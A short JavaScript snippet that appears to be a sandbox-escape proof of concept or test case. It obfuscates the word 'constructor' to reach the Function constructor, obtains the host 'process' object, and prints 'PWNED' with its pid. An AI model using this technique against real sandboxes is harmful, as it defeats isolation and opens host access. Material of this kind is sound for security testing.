'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const n = new Number(1);
n.go = (f) => f[w];
console.log('PWNED', n.go(fn)('return process')().pid);
